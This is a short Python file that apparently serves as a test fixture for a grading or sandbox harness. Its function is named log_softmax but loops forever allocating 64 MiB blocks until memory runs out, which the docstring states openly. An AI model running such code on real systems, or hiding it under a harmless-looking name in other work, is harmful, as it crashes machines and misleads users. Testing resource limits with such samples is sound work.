"""Allocates memory until there is none left.

Held by: process
Right: 0 points
"""

def log_softmax(x, axis=-1):
    hoard = []
    while True:
        hoard.append(bytearray(b'x') * (1 << 26))
